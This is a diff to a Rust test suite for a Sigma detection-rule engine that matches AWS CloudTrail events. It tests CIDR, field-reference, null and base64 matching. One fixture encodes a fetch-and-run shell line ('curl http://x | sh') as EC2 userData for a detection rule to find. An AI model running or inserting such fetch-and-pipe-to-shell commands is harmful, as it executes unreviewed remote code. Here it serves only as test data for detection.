@@ -168,9 +168,26 @@ fn all_of_them_and_or() {
 fn unsupported_constructs_are_named() {
     let err = |d: &str| parse_sigma(&sigma_with(d)).unwrap_err();
     assert_eq!(
-        err("  s:\n    requestParameters.policy|base64offset|contains: abc\n  condition: s\n"),
-        SigmaError::Modifier("base64offset".into())
+        err("  s:\n    userAgent|windash|contains: ' -enc '\n  condition: s\n"),
+        SigmaError::Modifier("windash".into())
     );
+    assert!(
+        err("  s:\n    userAgent|windash|contains: x\n  condition: s\n")
+            .to_string()
+            .contains("|windash")
+    );
+    assert_eq!(
+        err("  s:\n    userAgent|utf16le|base64: x\n  condition: s\n"),
+        SigmaError::Modifier("utf16le".into())
+    );
+    assert!(matches!(
+        err("  s:\n    sourceIPAddress|cidr: 10.0.0/8\n  condition: s\n"),
+        SigmaError::Syntax(m) if m.contains("10.0.0/8")
+    ));
+    assert!(matches!(
+        err("  s:\n    requestParameters.userData|base64: 'a*'\n  condition: s\n"),
+        SigmaError::Unsupported(m) if m.contains("wildcards")
+    ));
     assert_eq!(
         err("  s:\n    eventName|frobnicate: x\n  condition: s\n"),
         SigmaError::UnknownModifier("frobnicate".into())
@@ -200,4 +217,183 @@ fn unsupported_constructs_are_named() {
         .unwrap_err()
         .to_string()
         .contains("windows"));
+}
+
+/// Rows of `records` matched by a Sigma rule whose detection is `detection`.
+fn rows_of(detection: &str, records: &[Value]) -> Vec<u32> {
+    let rule = parse_sigma(&sigma_with(detection)).unwrap();
+    let set = RuleSet::new(vec![rule]).unwrap();
+    set.evaluate(&store_of(records)).remove(0).rows
+}
+
+#[test]
+fn fieldref_compares_two_fields_of_one_event() {
+    // A user acting on itself (e.g. creating its own access key).
+    let own = with(
+        call("iam.amazonaws.com", "CreateAccessKey"),
+        "requestParameters.userName",
+        json!("alice"),
+    );
+    let other = with(own.clone(), "requestParameters.userName", json!("bob"));
+    let none = call("iam.amazonaws.com", "CreateAccessKey");
+    let detection =
+        "  s:\n    userIdentity.userName|fieldref: requestParameters.userName\n  condition: s\n";
+    assert_eq!(
+        rows_of(detection, &[own.clone(), other.clone(), none.clone()]),
+        vec![0]
+    );
+    let negated = "  s:\n    eventName: CreateAccessKey\n  f:\n    userIdentity.userName|fieldref: requestParameters.userName\n  condition: s and not f\n";
+    assert_eq!(rows_of(negated, &[own, other, none]), vec![1, 2]);
+}
+
+#[test]
+fn cidr_matches_addresses_in_the_range() {
+    let at = |ip: &str| {
+        with(
+            call("s3.amazonaws.com", "GetObject"),
+            "sourceIPAddress",
+            json!(ip),
+        )
+    };
+    let records = [
+        at("10.1.2.3"),
+        at("192.168.0.1"),
+        at("2001:db8::7"),
+        at("s3.amazonaws.com"),
+        at("10.0.0.1"),
+    ];
+    let detection = "  s:\n    sourceIPAddress|cidr:\n      - 10.0.0.0/8\n      - '2001:db8::/32'\n  condition: s\n";
+    assert_eq!(rows_of(detection, &records), vec![0, 2, 4]);
+    let not_private = "  s:\n    sourceIPAddress|cidr: 10.0.0.0/8\n  condition: not s\n";
+    assert_eq!(rows_of(not_private, &records), vec![1, 2, 3]);
+}
+
+#[test]
+fn exists_null_and_empty_are_three_different_things() {
+    let base = call("ec2.amazonaws.com", "RunInstances");
+    let records = [
+        with(base.clone(), "errorMessage", json!("")),
+        with(base.clone(), "errorMessage", Value::Null),
+        base.clone(),
+        with(base.clone(), "errorMessage", json!("boom")),
+    ];
+    let rows = |value: &str| rows_of(&format!("  s:\n    {value}\n  condition: s\n"), &records);
+    assert_eq!(
+        rows("errorMessage: ''"),
+        vec![0],
+        "'' is only the empty string"
+    );
+    assert_eq!(
+        rows("errorMessage: null"),
+        vec![1, 2],
+        "null is missing or null"
+    );
+    assert_eq!(rows("errorMessage|exists: true"), vec![0, 3]);
+    assert_eq!(rows("errorMessage|exists: false"), vec![1, 2]);
+    assert_eq!(
+        rows("errorMessage|contains: '*'"),
+        vec![0, 3],
+        "any string, even empty"
+    );
+    assert_eq!(rows("errorMessage: '*'"), vec![0, 3]);
+    // A column field (userAgent is a store column): the empty string is still told apart.
+    let agents = [
+        with(base.clone(), "userAgent", json!("")),
+        with(base.clone(), "userAgent", Value::Null),
+        with(base.clone(), "userAgent", json!("curl/8")),
+    ];
+    let rows = |value: &str| rows_of(&format!("  s:\n    {value}\n  condition: s\n"), &agents);
+    assert_eq!(rows("userAgent: ''"), vec![0]);
+    assert_eq!(rows("userAgent: null"), vec![1]);
+    assert_eq!(rows("userAgent|contains: '*'"), vec![0, 2]);
+}
+
+#[test]
+fn plain_values_match_object_and_array_fields_by_their_json_text() {
+    let failed = with(
+        call("signin.amazonaws.com", "ConsoleLogin"),
+        "responseElements",
+        json!({"ConsoleLogin": "Failure"}),
+    );
+    let ok = with(
+        failed.clone(),
+        "responseElements",
+        json!({"ConsoleLogin": "Success"}),
+    );
+    let tagged = with(
+        call("ec2.amazonaws.com", "CreateTags"),
+        "requestParameters.tagSet",
+        json!([{"key": "Owner"}, {"key": "Ransom"}]),
+    );
+    let records = [failed, ok, tagged];
+    assert_eq!(
+        rows_of(
+            "  s:\n    responseElements|contains: 'Failure'\n  condition: s\n",
+            &records
+        ),
+        vec![0]
+    );
+    assert_eq!(
+        rows_of(
+            "  s:\n    requestParameters.tagSet|contains: ransom\n  condition: s\n",
+            &records
+        ),
+        vec![2]
+    );
+    assert_eq!(
+        rows_of(
+            "  s:\n    responseElements: '{\"ConsoleLogin\":\"Success\"}'\n  condition: s\n",
+            &records
+        ),
+        vec![1]
+    );
+}
+
+#[test]
+fn base64_and_base64offset_find_encoded_values() {
+    use base64::Engine as _;
+    let b64 = |s: &str| base64::engine::general_purpose::STANDARD.encode(s);
+    let user_data = |text: &str| {
+        with(
+            call("ec2.amazonaws.com", "RunInstances"),
+            "requestParameters.userData",
+            json!(text),
+        )
+    };
+    // The secret at every offset of a longer encoded script.
+    let records = [
+        user_data(&b64("#!/bin/sh\ncurl http://x | sh")),
+        user_data(&b64("x#!/bin/sh curl http://x")),
+        user_data(&b64("xx#!/bin/sh curl")),
+        user_data(&b64("#!/bin/bash echo hello")),
+        user_data("curl plain"),
+    ];
+    let offset =
+        "  s:\n    requestParameters.userData|base64offset|contains: '#!/bin/sh'\n  condition: s\n";
+    assert_eq!(rows_of(offset, &records), vec![0, 1, 2]);
+    let exact = format!(
+        "  s:\n    requestParameters.userData|base64: '{}'\n  condition: s\n",
+        "#!/bin/bash echo hello"
+    );
+    assert_eq!(rows_of(&exact, &records), vec![3]);
+}
+
+#[test]
+fn deeply_nested_conditions_are_an_error() {
+    let deep = format!(
+        "  s:\n    eventName: A\n  condition: {}s{}\n",
+        "(".repeat(5000),
+        ")".repeat(5000)
+    );
+    assert!(
+        matches!(parse_sigma(&sigma_with(&deep)), Err(SigmaError::Condition(m)) if m.contains("nested"))
+    );
+    let nots = format!(
+        "  s:\n    eventName: A\n  condition: {}s\n",
+        "not ".repeat(5000)
+    );
+    assert!(matches!(
+        parse_sigma(&sigma_with(&nots)),
+        Err(SigmaError::Condition(_))
+    ));
 }
